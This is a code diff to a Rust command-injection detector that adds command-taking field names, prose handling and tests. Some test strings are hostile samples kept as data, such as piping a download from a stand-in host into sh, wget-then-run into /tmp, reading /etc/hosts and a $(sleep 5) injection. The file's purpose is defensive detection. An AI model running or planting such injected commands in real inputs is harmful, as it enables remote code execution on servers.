@@ -6,6 +6,7 @@ use super::detector::{Detector, Report};
 use super::pipeline::is_query;
 use super::plain::is_plain;
 use super::prefilter::{is_agent, Hints, Marks};
+use super::prose::{lists_words, without_code};
 use super::words::Words;
 use super::{Family, Part};
 use crate::decode::{kind, percent, Value};
@@ -47,15 +48,17 @@ impl Detector for CommandInjection {
         }
         if takes_commands(value) || is_query(value.bytes) {
             report.doubt(&["command."], LISTED);
-        } else if is_plain(value.bytes) {
+        } else if is_plain(value.bytes) || lists_words(value.bytes) {
             report.doubt(&NAMED, LISTED);
         } else if is_jquery(value.bytes) {
             report.doubt(&["command.substitution"], LISTED);
         } else if value.part != Part::Query && is_told(value.bytes) {
             report.doubt(&["command."], TOLD);
         }
-        PATTERNS.judge(value, value.bytes, report);
-        if let Some(plain) = unquote(value.bytes) {
+        let prose = without_code(value.part, value.bytes);
+        let text = prose.as_deref().unwrap_or(value.bytes);
+        PATTERNS.judge(value, text, report);
+        if let Some(plain) = unquote(text) {
             PATTERNS.judge(value, &plain, report);
         }
     }
@@ -66,24 +69,29 @@ impl Detector for CommandInjection {
 fn names_clients(agent: &[u8]) -> bool {
     const FOLDERS: [&[u8]; 4] = [b"/tmp/", b"/etc/", b"/dev/", b"/bin/"];
     memchr::memchr3(b'{', b'|', b'`', agent).is_none()
+        && memmem::find(agent, b"$(").is_none()
         && !FOLDERS.iter().any(|f| memmem::find(agent, f).is_some())
 }
 
 /// Names under which APIs of builds, containers and schedules take commands.
-const TAKING: [&[u8]; 15] = [
+const TAKING: [&[u8]; 19] = [
     b"args",
     b"command",
     b"commands",
     b"cron",
     b"crontab",
+    b"dockerfile",
     b"entrypoint",
+    b"healthcheck",
     b"install",
     b"lifecycle",
+    b"makefile",
     b"run",
     b"runcmd",
     b"script",
     b"scripts",
     b"startup_script",
+    b"tasks",
     b"user_data",
     b"userdata",
 ];
@@ -283,6 +291,18 @@ mod tests {
     }
 
     #[test]
+    fn code_in_prose_hides_nothing_else() {
+        for text in [
+            "Use `ls`, then; cat /etc/hosts",
+            "8.8.8.8 `curl a.example|sh`",
+            "please show`id`",
+        ] {
+            let found = score_at(&CommandInjection, Part::Json, b"host", text);
+            assert!(found >= 0.5, "{text}");
+        }
+    }
+
+    #[test]
     fn builds_send_commands() {
         let json = |name: &'static str, text: &str| {
             score_at(&CommandInjection, Part::Json, name.as_bytes(), text)
@@ -314,6 +334,7 @@ mod tests {
     fn clients_name_no_folders() {
         let agent = |text: &str| score_at(&CommandInjection, Part::Header, b"User-Agent", text);
         assert!(agent("x; wget http://a.example/a -O /tmp/a; sh /tmp/a") >= 0.5);
+        assert!(agent("a$(sleep 5)") >= 0.5);
         assert!(agent("curl/8.5.0; php; node") < 0.5);
     }
 
@@ -359,6 +380,9 @@ mod tests {
             "index=web status=500 | stats count by host | head 10",
             "version 2\nid card",
             "docker; kubectl",
+            "=IF(A1>5;\"yes\";\"no\")",
+            "(cat|dog|sh)$",
+            "<p>&copy; 2024</p>",
             "a; b\\n",
         ] {
             assert!(score(&CommandInjection, text) < 0.5, "{text}");
@@ -368,6 +392,8 @@ mod tests {
     #[test]
     fn texts_tell_about_commands() {
         for text in [
+            "fix: run `rm -rf node_modules && npm i` before build",
+            "Use `ps aux | grep node`, then `kill -9 <pid>`.",
             "Run `ls -la` in the folder and `cat` the file; then type exit and find your way home",
             "it said \\n or \\033[0m `id`, and so on for many more words",
         ] {
